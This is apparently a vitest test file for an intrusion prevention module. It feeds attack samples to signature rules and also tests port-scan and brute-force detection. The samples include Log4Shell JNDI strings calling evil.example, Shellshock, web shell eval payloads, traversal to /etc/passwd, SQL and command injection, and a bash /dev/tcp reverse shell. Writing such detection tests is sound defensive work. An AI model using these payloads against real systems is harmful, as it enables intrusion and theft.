import { buildFrame } from "@secuxflow/testkit";
import { describe, expect, it } from "vitest";
import { builtModule, http, inspectAll, newModule, ruleIds, says, session } from "./testing/harness.js";
import type { Packet } from "./testing/harness.js";
import { ordinaryRequests } from "./testing/ordinary.js";

const get = (uri: string, headers: Record<string, string> = {}): string => http(`GET ${uri}`, headers);
const post = (body: string): string => http("POST /", { "Content-Type": "application/x-www-form-urlencoded" }, body);

const attacks: readonly (readonly [rule: number, title: string, data: string | Buffer])[] = [
  [9_000_001, "Log4Shell in a header", get("/", { "X-Api-Version": "${jndi:ldap://evil.example/a}" })],
  [9_000_001, "Log4Shell in disguise", get("/", { "User-Agent": "${${lower:J}ndi:${lower:l}dap://evil.example/a}" })],
  [9_000_001, "Log4Shell, percent-encoded", get("/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D")],
  [9_000_001, "Log4Shell over another protocol", "EHLO ${JNDI:dns://evil.example}\r\n"],
  [9_000_002, "Shellshock", get("/cgi-bin/test", { "User-Agent": "() { :;}; echo; /bin/id" })],
  [9_000_003, "a web shell", get("/uploads/C99.php?act=ls")],
  [9_000_004, "a web shell's command", post("z0=@eval(base64_decode($_POST[z1]));")],
  [9_000_005, "a PHPUnit exploit", http("POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", {}, "x")],
  [9_000_005, "an exposed repository", get("/.git/config")],
  [9_000_005, "an exposed environment file", get("/.env")],
  [9_000_005, "a traversal of Apache 2.4.49", get("/cgi-bin/.%2e/.%2e/bin/sh")],
  [9_000_006, "directory traversal", get("/download?f=..%2f..%2f..%2fetc/passwd")],
  [9_000_006, "double-encoded traversal", get("/download?f=%252e%252e%252fetc/passwd")],
  [9_000_006, "traversal with backslashes", get("/download?f=..\\..\\..\\windows\\win.ini")],
  [9_000_007, "sqlmap", get("/", { "User-Agent": "sqlmap/1.8.2#stable (https://sqlmap.org)" })],
  [
    9_000_007,
    "Nmap's scripts",
    get("/", { "User-Agent": "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)" }),
  ],
  [9_000_008, "a reverse shell", "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1\n"],
  [9_000_008, "a reverse shell in a form", post("cmd=bash+-i+%3E%26+%2Fdev%2Ftcp%2F10.0.0.9%2F1")],
  [9_000_009, "a Java object", Buffer.from("00010203aced00057372001161", "hex")],
  [9_000_009, "a Java object in Base64", post("o=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA")],
  [9_000_010, "a PHP wrapper", get("/?page=php://filter/convert.base64-encode/resource=index")],
  [9_000_011, "EternalBlue's transaction", Buffer.from("0000004eff534d4232000000001807c0000000", "hex")],
  [9_000_012, "a plaintext beacon", "12\u0000lv|'|'|SGFja2Vk|'|'|PC-1"],
  [9_000_013, "UNION-based SQL injection", get("/item?id=-1%27%20UNION/**/SELECT%201,2,user()--%20")],
  [9_000_013, "UNION-based SQL injection in a form", post("id=1+union+all+select+null%2Cnull")],
  [9_000_019, "a shell command", get("/ping?host=127.0.0.1;%20cat%20/etc/hostname")],
  [9_000_021, "OGNL", get("/", { "Content-Type": "%{(#_='multipart/form-data').(#_memberAccess=x)}" })],
  [9_000_022, "EICAR", "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"],
];

describe("ips signatures", () => {
  it.each(attacks)("%i finds %s", async (rule, _title, data) => {
    const findings = inspectAll(await newModule("ips"), session(says(data)));
    expect(ruleIds(findings)).toContain(rule);
    expect(findings.filter(({ ruleId }) => ruleId === rule)).toHaveLength(1);
  });

  it("has a test for every rule that has patterns", () => {
    const tested = new Set([...attacks.map(([rule]) => rule), 9_000_013, 9_000_020]);
    const headerRules = [9_000_014, 9_000_015, 9_000_016, 9_000_017, 9_000_018];
    expect(
      builtModule("ips")
        .manifest.rules.map(({ id }) => id)
        .filter((id) => !tested.has(id)),
    ).toEqual(headerRules);
  });

  it("never alerts on ordinary requests", async () => {
    const instance = await newModule("ips");
    const alerts = ordinaryRequests.flatMap((request) =>
      inspectAll(instance, session(says(request))).map(({ ruleId, attributes }) => `${ruleId} ${attributes["match.data"] ?? ""}`),
    );
    expect(alerts).toEqual([]);
  });

  it("looks at the server's answers with the rules for them, and only those", async () => {
    const answer = { from: "server", data: "HTTP/1.1 200 OK\r\nContent-Length: 24\r\n\r\nuid=0(root) gid=0(root)\n" } as const;
    expect(ruleIds(inspectAll(await newModule("ips"), session([...says(get("/")), answer])))).toEqual([9_000_020]);
    const page = { from: "server", data: "HTTP/1.1 200 OK\r\n\r\n<p>Beware of ${jndi:ldap://x}!</p>" } as const;
    expect(inspectAll(await newModule("ips"), session([...says(get("/")), page]))).toEqual([]);
    // Without a direction in the records the handshake tells.
    expect(inspectAll(await newModule("ips"), session([...says(get("/")), page], { direction: false }))).toEqual([]);
    expect(ruleIds(inspectAll(await newModule("ips"), session([...says(get("/")), answer], { direction: false })))).toEqual([
      9_000_020,
    ]);
  });

  it("looks at datagrams", async () => {
    const frame = buildFrame({
      ipv4: { src: "10.1.0.7", dst: "10.2.0.5" },
      udp: { srcPort: 4000, dstPort: 514 },
      payload: "<1> x ${jndi:ldap://e}",
    });
    const [finding] = inspectAll(await newModule("ips"), [{ frame }]);
    expect(finding).toMatchObject({
      ruleId: 9_000_001,
      inStream: false,
      matchOffset: 14 + 20 + 8 + 6,
      matchLen: 7,
      verdictHint: "drop",
      severity: 1,
    });
  });

  it("reports a rule once a flow, and again for the next", async () => {
    const instance = await newModule("ips");
    const twice = session(says(get("/", { X: "${jndi:a}" }) + get("/", { X: "${jndi:b}" })));
    expect(inspectAll(instance, twice)).toHaveLength(1);
    expect(inspectAll(instance, session(says(get("/", { X: "${jndi:a}" }))))).toHaveLength(1);
  });

  it("says where in the stream it was, and what was around it", async () => {
    const request = get("/", { X: "${jndi:ldap://e}" });
    const [finding] = inspectAll(await newModule("ips"), session(says(request)));
    expect(finding).toMatchObject({ inStream: true, matchOffset: request.indexOf("${jndi:"), matchLen: 7 });
    expect(finding?.attributes["match.data"]).toContain("X: ${jndi:ldap://e}");
    const [scanner] = inspectAll(await newModule("ips"), session(says(get("/a?b=1", { "User-Agent": "Nikto/2.5" }))));
    expect(scanner?.attributes).toMatchObject({
      "http.uri": "/a?b=1",
      "http.host": "shop.example",
      "http.user_agent": "Nikto/2.5",
      "http.method": "GET",
    });
  });
});

const syn = (source: string, port: number, dport: number, flags = "S"): Packet["frame"] =>
  buildFrame({ ipv4: { src: source, dst: "10.2.0.5" }, tcp: { srcPort: port, dstPort: dport, flags, seq: port }, padTo: 60 });

describe("ips on headers", () => {
  it("sees a port scan at its twentieth port, once a minute", async () => {
    const instance = await newModule("ips");
    const scan = (from: number, atMs: number): Packet[] =>
      Array.from({ length: 30 }, (_, i) => ({ frame: syn("10.9.0.1", 40_000 + from + i, 1 + i), atMs }));
    const first = inspectAll(instance, scan(0, 0));
    expect(first).toMatchObject([{ ruleId: 9_000_014, recordIndex: 19, attributes: { "ports.count": 20 } }]);
    // The log-in ports were tried once each.
    expect(inspectAll(instance, scan(100, 30_000))).toEqual([]);
    expect(ruleIds(inspectAll(instance, scan(200, 120_000)))).toEqual([9_000_014]);
  });

  it("does not take retransmissions, other sources, or slow clients for a scan", async () => {
    const instance = await newModule("ips", "scan.ports=5\nscan.window_s=10");
    const again = Array.from({ length: 50 }, () => ({ frame: syn("10.9.0.2", 40_000, 80) }));
    const others = Array.from({ length: 50 }, (_, i) => ({ frame: syn(`10.9.1.${i}`, 40_000, 1000 + i) }));
    const slow = Array.from({ length: 20 }, (_, i) => ({ frame: syn("10.9.0.3", 40_000 + i, 2000 + i), atMs: i * 3000 }));
    expect(inspectAll(instance, [...again, ...others, ...slow])).toEqual([]);
  });

  it("sees many connections to a log-in service", async () => {
    const tries = Array.from({ length: 15 }, (_, i) => ({ frame: syn("10.9.0.4", 50_000 + i, 22), atMs: i * 100 }));
    expect(inspectAll(await newModule("ips"), tries)).toMatchObject([
      { ruleId: 9_000_015, recordIndex: 9, attributes: { message: "SSH", "attempts.count": 10 } },
    ]);
    const web = Array.from({ length: 40 }, (_, i) => ({ frame: syn("10.9.0.5", 50_000 + i, 80) }));
    expect(inspectAll(await newModule("ips"), web)).toEqual([]);
  });

  it.each([
    ["SF", 9_000_016],
    ["", 9_000_017],
    ["FPU", 9_000_018],
  ])("sees flags %j, once for a source", async (flags, rule) => {
    const packets = Array.from({ length: 5 }, (_, i) => ({ frame: syn("10.9.0.6", 60_000 + i, 80 + i, flags) }));
    expect(inspectAll(await newModule("ips"), packets).map(({ ruleId }) => ruleId)).toEqual([rule]);
  });

  it("refuses settings out of range", async () => {
    for (const text of ["scan.ports=65", "scan.ports=1", "brute.attempts=x", "scan.port=5"]) {
      await expect(newModule("ips", text)).rejects.toThrow(expect.objectContaining({ reason: "bad-configuration" }));
    }
  });
});
